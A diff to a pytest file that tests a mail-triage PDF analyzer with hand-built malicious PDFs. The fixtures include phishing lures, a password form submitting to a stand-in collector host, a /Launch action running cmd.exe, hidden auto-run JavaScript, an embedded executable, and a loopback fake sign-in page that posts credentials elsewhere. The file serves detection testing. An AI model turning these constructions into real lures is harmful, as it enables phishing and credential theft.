@@ -1,15 +1,22 @@
-"""pdf analyzer: PDFs written by the test (auto-run JavaScript, /Launch,
-embedded files, #xx-obfuscated names, links) through pdfid and the fallback
-counter for large files."""
+"""pdf analyzer: PDFs written by the test (auto-run JavaScript, /Launch, embedded files,
+#xx-obfuscated names, links) through pdfid and the fallback counter for large files; the
+structure read with pypdf (lure shape, link rating, forms, actions in object streams,
+bounds); benign documents (letters, reports, papers, Debian's own PDFs) staying clean;
+and a lure's link followed to a real HTTP server on 127.0.0.1 whose page is analysed."""
 
 from __future__ import annotations
 
+import http.server
 import os
+import threading
+from email.message import EmailMessage
+from pathlib import Path
 
 import pytest
 
-from mailvm.config import TriageConfig
-from mailvm.triage import Triage, pdf
+from mailvm.config import Config, LinksConfig, SpoolConfig, TriageConfig
+from mailvm.scan import Scanner
+from mailvm.triage import Triage, pdf, pdfdoc
 from triage_helpers import art, ids
 
 
@@ -121,3 +128,378 @@ def test_malformed_pdfs_do_not_raise(triage, tmp_path, data):
 def test_pdfid_error_falls_back_to_counting(triage, tmp_path):
     r = run(triage, tmp_path, b"%PDF-")
     assert "pdf_malformed" in ids(r)
+
+
+# -- documents with pages, text, images and link annotations (structure, lure shape) ---------------------
+
+
+def _esc(text: str) -> bytes:
+    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1")
+
+
+class Doc:
+    """A hand-written PDF: pages with text lines, images and link annotations, an optional catalog extra.
+
+    Object 1 is the catalog, 2 the page tree, 3 the font; everything else is added in order.
+    """
+
+    def __init__(self) -> None:
+        self.objects: list[bytes] = [b"", b"", b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
+        self.pages: list[int] = []
+        self.catalog_extra = b""
+
+    def add(self, body: bytes) -> int:
+        self.objects.append(body)
+        return len(self.objects)
+
+    def stream(self, data: bytes, extra: bytes = b"") -> int:
+        return self.add(b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream")
+
+    def page(self, lines: tuple[str, ...] = (), links: tuple[tuple[str, tuple[float, float, float, float], str], ...] = (),
+             image: tuple[float, float, float, float] | None = None, annots: tuple[int, ...] = (),
+             extra: bytes = b"") -> "Doc":
+        """``links``: (url, rect, label drawn inside the rect); ``image``: rect covered by an image."""
+        content = bytearray()
+        resources = b"/Font << /F1 3 0 R >>"
+        if image is not None:
+            img = self.stream(b"\x80", b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray "
+                                       b"/BitsPerComponent 8 ")
+            x0, y0, x1, y1 = image
+            content += b"q %g 0 0 %g %g %g cm /Im1 Do Q\n" % (x1 - x0, y1 - y0, x0, y0)
+            resources += b" /XObject << /Im1 %d 0 R >>" % img
+        if lines:
+            content += b"BT /F1 11 Tf 14 TL 72 740 Td\n"
+            for line in lines:
+                content += b"(" + _esc(line) + b") Tj T*\n"
+            content += b"ET\n"
+        refs = list(annots)
+        for url, rect, label in links:
+            if label:
+                content += b"BT /F1 12 Tf %g %g Td (" % (rect[0] + 2, rect[1] + 2) + _esc(label) + b") Tj ET\n"
+            refs.append(self.add(b"<< /Type /Annot /Subtype /Link /Rect [%g %g %g %g] /Border [0 0 0] "
+                                 b"/A << /S /URI /URI (" % rect + _esc(url) + b") >> >>"))
+        contents = self.stream(bytes(content))
+        annot_arr = b" /Annots [" + b" ".join(b"%d 0 R" % r for r in refs) + b"]" if refs else b""
+        self.pages.append(self.add(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << "
+                                   + resources + b" >> /Contents %d 0 R" % contents + annot_arr + extra + b" >>"))
+        return self
+
+    def build(self) -> bytes:
+        self.objects[0] = b"<< /Type /Catalog /Pages 2 0 R " + self.catalog_extra + b">>"
+        self.objects[1] = (b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % p for p in self.pages)
+                           + b"] /Count %d >>" % len(self.pages))
+        out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+        offsets = []
+        for i, obj in enumerate(self.objects, start=1):
+            offsets.append(len(out))
+            out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
+        xref = len(out)
+        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
+        for off in offsets:
+            out += b"%010d 00000 n \n" % off
+        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, xref)
+        return bytes(out)
+
+
+LOREM = ("Quarterly results were reviewed by the committee and the figures for each region are attached in the "
+         "appendix together with the notes from the audit and the plan for the next period of work").split()
+
+
+def words(n: int) -> tuple[str, ...]:
+    """``n`` words of ordinary prose in lines of 12 words."""
+    flat = [LOREM[i % len(LOREM)] for i in range(n)]
+    return tuple(" ".join(flat[i : i + 12]) for i in range(0, n, 12))
+
+
+PHISH = "https://docs-view.example/session/7f3a"
+FULL_PAGE = (40.0, 60.0, 572.0, 740.0)
+BUTTON = (220.0, 380.0, 392.0, 412.0)
+
+
+def image_lure() -> bytes:
+    """A picture of a blurred document under one link that covers most of the page (no text at all)."""
+    return Doc().page(image=FULL_PAGE, links=((PHISH, FULL_PAGE, ""),)).build()
+
+
+def button_lure() -> bytes:
+    """A few sentences and a "VIEW DOCUMENT" button: the classic shared-document lure."""
+    lines = ("You have received a secure document from Accounts Payable.", "The sender has shared Invoice-4471.pdf with you.",
+             "Click below to review and sign before it expires today.")
+    return Doc().page(lines=lines, links=((PHISH, BUTTON, "VIEW DOCUMENT"),)).build()
+
+
+def test_image_lure_is_suspicious(triage, tmp_path):
+    r = run(triage, tmp_path, image_lure(), "Invoice_4471.pdf")
+    found = ids(r)
+    assert found["pdf_link_lure"] == 5 and r.verdict == "suspicious", r.findings
+    lure = next(f for f in r.findings if f.id == "pdf_link_lure")
+    assert "covers" in lure.detail and PHISH in lure.detail
+
+
+def test_button_lure_is_suspicious(triage, tmp_path):
+    r = run(triage, tmp_path, button_lure())
+    assert ids(r)["pdf_link_lure"] == 5 and r.verdict == "suspicious"
+    assert "'VIEW DOCUMENT'" in next(f.detail for f in r.findings if f.id == "pdf_link_lure")
+
+
+def test_lure_with_phishing_looking_link_is_stronger(triage, tmp_path):
+    data = Doc().page(lines=("Your mailbox is almost full.",),
+                      links=(("https://office365-verify.web.app/login", BUTTON, "Upgrade storage"),)).build()
+    found = ids(run(triage, tmp_path, data))
+    assert found["pdf_link_lure"] == 6 and found["pdf_suspicious_link"] >= 5
+
+
+def test_wordy_lure_with_small_link_caught_by_the_link(triage, tmp_path):
+    data = Doc().page(lines=words(300), links=(("http://185.13.22.7/owa/login.php", (72, 90, 150, 104), "Sign in"),)).build()
+    found = ids(run(triage, tmp_path, data))
+    assert found["pdf_suspicious_link"] >= 4 and found["pdf_link_lure"] == 5
+
+
+def test_deceptive_link_text(triage, tmp_path):
+    data = Doc().page(lines=words(200), links=((PHISH, (72, 100, 300, 114), "https://www.microsoft.com/invoices"),)).build()
+    found = ids(run(triage, tmp_path, data))
+    assert found["pdf_deceptive_link"] == 5
+
+
+# -- benign documents stay clean ------------------------------------------------------------------------
+
+
+def test_letter_with_visible_links_is_clean(triage, tmp_path):
+    data = Doc().page(lines=words(260), links=(("https://www.debian.org/", (72, 100, 180, 114), "www.debian.org"),)) \
+        .page(lines=words(200)).build()
+    r = run(triage, tmp_path, data)
+    assert r.verdict == "clean" and "pdf_link_lure" not in ids(r), r.findings
+
+
+def test_short_page_whose_link_shows_its_address_is_clean(triage, tmp_path):
+    # the shape of Debian's live-manual stub: two pages, a handful of words, one URL written out
+    data = Doc().page(lines=("Live Systems Manual",)).page(
+        links=(("http://www.gnu.org/licenses/", (89, 430, 196, 442), "http://www.gnu.org/licenses/"),)).build()
+    r = run(triage, tmp_path, data)
+    assert r.verdict == "clean" and "pdf_link_lure" not in ids(r), r.findings
+
+
+def test_report_with_a_few_links_is_clean(triage, tmp_path):
+    doc = Doc()
+    for i in range(6):
+        doc.page(lines=words(350), links=((f"https://intranet.example.org/report/{i}", (72, 80, 260, 94), "see the appendix"),))
+    r = run(triage, tmp_path, doc.build())
+    assert r.verdict == "clean", r.findings
+
+
+def test_paper_with_many_references_is_clean(triage, tmp_path):
+    doc = Doc()
+    for i in range(8):
+        links = tuple((f"https://doi.org/10.1000/{i}.{j}", (72, 100 + 20 * j, 300, 114 + 20 * j), f"[{i * 5 + j}]")
+                      for j in range(5))
+        doc.page(lines=words(500), links=links)
+    r = run(triage, tmp_path, doc.build())
+    assert r.verdict == "clean", r.findings
+
+
+def test_one_page_with_a_picture_and_no_link_is_clean(triage, tmp_path):
+    r = run(triage, tmp_path, Doc().page(image=FULL_PAGE).build())
+    assert r.verdict == "clean" and not ids(r), r.findings
+
+
+DEBIAN_PDFS = sorted(Path("/usr/share/doc").glob("**/*.pdf"))[:20]
+
+
+@pytest.mark.skipif(not DEBIAN_PDFS, reason="no PDF under /usr/share/doc on this machine")
+@pytest.mark.parametrize("path", DEBIAN_PDFS, ids=[p.name for p in DEBIAN_PDFS])
+def test_debian_documentation_pdfs_are_clean(triage, path):
+    r = triage.analyze(art(path))
+    assert r.kind == "pdf" and r.verdict == "clean" and r.errors == [], r.findings
+
+
+# -- actions, forms, embedded files found in the structure -------------------------------------------
+
+
+def test_password_form_posting_to_a_remote_server(triage, tmp_path):
+    doc = Doc()
+    submit = b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/p.php) >> >>"
+    user = doc.add(b"<< /FT /Tx /T (email) /Rect [100 500 400 520] /Subtype /Widget >>")
+    pw = doc.add(b"<< /FT /Tx /T (password) /Ff 8192 /Rect [100 460 400 480] /Subtype /Widget >>")
+    button = doc.add(b"<< /FT /Btn /T (go) /Ff 65536 /Rect [100 420 200 440] /Subtype /Widget /A " + submit + b" >>")
+    doc.catalog_extra = b"/AcroForm << /Fields [%d 0 R %d 0 R %d 0 R] >> " % (user, pw, button)
+    doc.page(lines=("Sign in to view the document",), annots=(user, pw, button))
+    found = ids(run(triage, tmp_path, doc.build()))
+    assert found["pdf_password_form"] == 6 and found["pdf_submit_form"] == 4
+
+
+def test_uri_opened_by_itself(triage, tmp_path):
+    doc = Doc()
+    doc.catalog_extra = b"/OpenAction << /S /URI /URI (https://e.test/land) >> "
+    found = ids(run(triage, tmp_path, doc.page(lines=words(300)).build()))
+    assert found["pdf_uri_on_open"] == 5
+
+
+def test_launch_severity_depends_on_what_it_starts(triage, tmp_path):
+    doc = Doc()
+    doc.page(lines=words(300), extra=b" /AA << /O << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>")
+    assert ids(run(triage, tmp_path, doc.build(), "a.pdf"))["pdf_launch"] == 8
+    manual = Doc()
+    link = manual.add(b"<< /Type /Annot /Subtype /Link /Rect [72 72 200 90] /A << /S /Launch /F (./local_file.txt) >> >>")
+    manual.page(lines=words(300), annots=(link,))
+    assert ids(run(triage, tmp_path, manual.build(), "b.pdf"))["pdf_launch"] == 3  # a manual's demo link (Prawn's)
+
+
+def _object_stream_pdf(hidden: bytes) -> bytes:
+    """A PDF whose OpenAction is an object inside a compressed object stream, with a cross-reference stream."""
+    import zlib
+    objs: dict[int, bytes] = {
+        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+    }
+    inner = b"4 0 "
+    body = zlib.compress(inner + hidden)
+    objs[5] = b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(inner), len(body)) \
+        + body + b"\nendstream"
+    out = bytearray(b"%PDF-1.7\n")
+    offsets = {}
+    for num in sorted(objs):
+        offsets[num] = len(out)
+        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
+    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
+    for num in (1, 2, 3):
+        rows.append(b"\x01" + offsets[num].to_bytes(4, "big") + b"\x00\x00")
+    rows.append(b"\x02" + (5).to_bytes(4, "big") + b"\x00\x00")  # object 4: index 0 in stream 5
+    rows.append(b"\x01" + offsets[5].to_bytes(4, "big") + b"\x00\x00")
+    xref_at = len(out)
+    rows.append(b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00")
+    data = b"".join(rows)
+    out += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(data) + data
+            + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)
+    return bytes(out)
+
+
+def test_javascript_hidden_in_an_object_stream(triage, tmp_path):
+    data = _object_stream_pdf(b"<< /S /JavaScript /JS (app.launchURL('https://e.test/x');) >>")
+    assert "/JavaScript" not in pdf.pdfid_counts(data, "x.pdf") or not pdf.pdfid_counts(data, "x.pdf")["/JavaScript"][0]
+    r = run(triage, tmp_path, data)
+    assert ids(r)["pdf_auto_javascript"] == 8 and r.verdict == "malicious", r.findings
+
+
+def test_embedded_executable_named_and_carved(triage, tmp_path):
+    found = ids(run(triage, tmp_path, EMBEDDED))
+    assert found["pdf_embedded_executable"] == 7
+    assert pdfdoc.embedded_files(EMBEDDED) == [("a.exe", b"MZ")]
+    assert pdfdoc.embedded_files(PLAIN) == []
+
+
+# -- links to follow, bounds -----------------------------------------------------------------------------------
+
+
+def test_link_urls_most_prominent_first():
+    doc = Doc().page(lines=("x",), links=(("https://small.example/", (72, 72, 100, 80), "a"),
+                                          ("https://big.example/", FULL_PAGE, ""),
+                                          ("mailto:someone@example.org", (72, 90, 100, 100), "m"),
+                                          ("https://other.example/", (72, 110, 200, 130), "b")))
+    assert pdfdoc.link_urls(doc.build(), 2) == ["https://big.example/", "https://other.example/"]
+    assert pdfdoc.link_urls(b"%PDF-1.4 garbage") == []
+
+
+def test_many_annotations_and_pages_are_bounded():
+    doc = Doc()
+    refs = tuple(doc.add(b"<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (https://e.test/%d) >> >>" % i)
+                 for i in range(pdfdoc.MAX_ANNOTS_PER_PAGE + 50))
+    doc.page(annots=refs)
+    facts = pdfdoc.read_facts(doc.build())
+    assert len(facts.links) <= pdfdoc.MAX_URLS and any("annotations" in p for p in facts.partial)
+
+
+def test_action_cycles_and_deadline():
+    doc = Doc()
+    a = len(doc.objects) + 1
+    doc.add(b"<< /S /URI /URI (https://e.test/a) /Next %d 0 R >>" % (a + 1))
+    doc.add(b"<< /S /JavaScript /JS (1) /Next %d 0 R >>" % a)  # a cycle through /Next
+    doc.catalog_extra = b"/OpenAction %d 0 R " % a
+    data = doc.page(lines=("x",)).build()
+    facts = pdfdoc.read_facts(data)
+    assert [x.kind for x in facts.actions] == ["URI", "JavaScript"] and not facts.errors
+    stopped = pdfdoc.read_facts(data, deadline_s=0.0)
+    assert stopped.partial and "stopped" in stopped.partial[0]
+
+
+@pytest.mark.parametrize("data", [b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 1 0 R >> endobj trailer << /Root 1 0 R >>",
+                                  b"%PDF-1.7\ntrailer << /Root 1 0 R /Size 99999999 >>", b"%PDF-" + os.urandom(4000),
+                                  image_lure()[:300]])
+def test_hostile_structures_never_raise(triage, tmp_path, data):
+    facts = pdfdoc.read_facts(data)
+    assert isinstance(facts.errors, list)
+    r = run(triage, tmp_path, data)
+    assert r.errors == [] and r.kind == "pdf"
+
+
+# -- a lure's link is followed like a message link, and what comes back is analysed -------------------------
+
+
+class _PhishPage(http.server.BaseHTTPRequestHandler):
+    PAGE = (b"<html><head><title>Sign in to your account</title></head><body>"
+            b"<form method='post' action='https://collect.example/owa.php'>"
+            b"<input type='email' name='u'><input type='password' name='p'><button>Next</button></form></body></html>")
+    seen: list[str] = []
+
+    def log_message(self, *args):
+        pass
+
+    def do_GET(self):
+        type(self).seen.append(self.path)
+        body = self.PAGE if self.path.startswith("/session/") else b"not here"
+        self.send_response(200 if self.path.startswith("/session/") else 404)
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+
+@pytest.fixture
+def phish_server():
+    _PhishPage.seen = []
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _PhishPage)
+    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}"
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join(5)
+
+
+def _scanner(tmp_path, links: bool) -> Scanner:
+    cfg = Config(
+        links=LinksConfig(enabled=links, allow_networks=["127.0.0.0/8"], timeout_s=5.0),  # loopback test server only
+        spool=SpoolConfig(dir=str(tmp_path / "spool")),
+        triage=TriageConfig(yara_rules_dir=str(tmp_path / "noyara")),
+    )
+    return Scanner(cfg, Triage(cfg.triage), table=None, detonator=None)
+
+
+def _mail_with(name: str, data: bytes) -> bytes:
+    m = EmailMessage()
+    m["From"], m["To"], m["Subject"] = "ap@vendor.example", "clerk@corp.example", "Invoice 4471"
+    m.set_content("Please find the invoice attached.")
+    m.add_attachment(data, maintype="application", subtype="pdf", filename=name)
+    return m.as_bytes()
+
+
+def test_pdf_lure_link_is_followed_and_the_page_analysed(tmp_path, phish_server):
+    url = phish_server + "/session/7f3a?id=clerk"
+    lure = Doc().page(image=FULL_PAGE, links=((url, FULL_PAGE, ""),)).build()
+    report = _scanner(tmp_path, links=True).scan_message(_mail_with("Invoice_4471.pdf", lure))
+    assert _PhishPage.seen == ["/session/7f3a?id=clerk"]
+    by_origin = {a.artifact.origin_str: a for a in report.artifacts}
+    pdf_rep = next(a for a in report.artifacts if a.kind == "pdf")
+    assert "pdf_link_lure" in {f.id for f in pdf_rep.findings}
+    page = by_origin[f"url:{url}"]
+    assert page.kind == "html" and page.source == "triage"
+    assert {f.id: f.severity for f in page.findings}["html_password_form"] == 6  # posts to another server
+    assert report.verdict == "suspicious"
+
+
+def test_pdf_links_are_not_fetched_when_links_are_off(tmp_path, phish_server):
+    lure = Doc().page(image=FULL_PAGE, links=((phish_server + "/session/1", FULL_PAGE, ""),)).build()
+    report = _scanner(tmp_path, links=False).scan_message(_mail_with("a.pdf", lure))
+    assert _PhishPage.seen == [] and len(report.artifacts) == 1
